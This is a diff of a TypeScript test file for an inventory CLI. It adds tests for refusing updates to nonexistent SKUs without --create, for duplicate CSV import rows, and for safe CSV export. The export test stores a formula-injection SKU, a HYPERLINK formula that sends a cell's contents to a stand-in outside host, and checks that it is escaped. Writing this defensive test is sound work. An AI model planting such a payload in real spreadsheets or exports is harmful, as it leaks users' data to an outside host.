@@ -117,7 +117,8 @@ describe('inventory-alerts CLI', () => {
 
   it('sets, adjusts and reads stock', async () => {
     expect(
-      (await cli('stock', 'set', 'CLI-1', '--location', 'WH-1', '--quantity', '10')).code,
+      (await cli('stock', 'set', 'CLI-1', '--location', 'WH-1', '--quantity', '10', '--create'))
+        .code,
     ).toBe(0);
     expect((await cli('stock', 'adjust', 'CLI-1', '--location', 'WH-1', '--by', '-3')).out).toBe(
       'CLI-1 at WH-1: quantity 7',
@@ -128,6 +129,68 @@ describe('inventory-alerts CLI', () => {
     expect((await cli('stock', 'adjust', 'CLI-1', '--location', 'WH-1', '--by', 'many')).err).toBe(
       '--by must be a number, got "many"',
     );
+  });
+
+  it('refuses to set or adjust an item that does not exist unless --create, and writes nothing', async () => {
+    const stockOf = async (sku: string, location: string) =>
+      (await doc.send(new GetCommand({ TableName: tables.inventory, Key: { sku, location } })))
+        .Item;
+    // A mistyped SKU: no phantom item, so no out-of-stock alert and no order for it.
+    const set = await cli('stock', 'set', 'CLI-TYPO', '--location', 'WH-1', '--quantity', '4');
+    expect(set).toMatchObject({
+      code: 2,
+      err: 'No stock item CLI-TYPO at WH-1: check the SKU and location, or add --create to create it',
+    });
+    const adjust = await cli('stock', 'adjust', 'CLI-TYPO', '--location', 'WH-1', '--by', '-20');
+    expect(adjust).toMatchObject({
+      code: 2,
+      err: 'No stock item CLI-TYPO at WH-1: check the SKU and location, or add --create to create it',
+    });
+    expect(await stockOf('CLI-TYPO', 'WH-1')).toBeUndefined();
+
+    // --create says the item is new: it creates it, and refuses to overwrite one that exists.
+    expect(
+      (await cli('stock', 'adjust', 'CLI-NEW', '--location', 'WH-1', '--by', '6', '--create')).out,
+    ).toBe('CLI-NEW at WH-1: quantity 6');
+    expect(await stockOf('CLI-NEW', 'WH-1')).toMatchObject({ quantity: 6 });
+    expect(
+      await cli('stock', 'set', 'CLI-NEW', '--location', 'WH-1', '--quantity', '1', '--create'),
+    ).toMatchObject({
+      code: 2,
+      err: 'CLI-NEW at WH-1 already exists: leave out --create to change it',
+    });
+    expect(await stockOf('CLI-NEW', 'WH-1')).toMatchObject({ quantity: 6 });
+  });
+
+  it('prints stock as CSV that a spreadsheet opens as text, not as a formula', async () => {
+    const sku = '=HYPERLINK("http://x/?"&A1)';
+    await doc.send(
+      new PutCommand({
+        TableName: tables.inventory,
+        Item: { sku, location: 'WH-1', quantity: -5 },
+      }),
+    );
+    expect((await cli('stock', 'get', sku, '--csv')).out.split('\n')).toEqual([
+      'sku,location,quantity,price,category,listed',
+      `"'=HYPERLINK(""http://x/?""&A1)",WH-1,-5,,,`,
+    ]);
+  });
+
+  it('imports a CSV with the same item twice in one chunk: the last row wins, the earlier is reported by line', async () => {
+    const csv = file(
+      'duplicates.csv',
+      'sku,location,quantity\nDUP-1,WH-1,5\nDUP-2,WH-1,1\nDUP-1,WH-1,8\nDUP-1,WH-1,9\n',
+    );
+    const result = await cli('stock', 'import', csv);
+    expect(result).toMatchObject({ code: 0, out: '2 row(s) written, 0 skipped, 2 replaced' });
+    expect(result.err.split('\n')).toEqual([
+      'line 2: replaced by line 4, which has the same sku and location',
+      'line 4: replaced by line 5, which has the same sku and location',
+    ]);
+    const item = await doc.send(
+      new GetCommand({ TableName: tables.inventory, Key: { sku: 'DUP-1', location: 'WH-1' } }),
+    );
+    expect(item.Item).toMatchObject({ quantity: 9 });
   });
 
   it('imports a CSV: good rows written, bad rows reported by line, and resumes after an interruption', async () => {
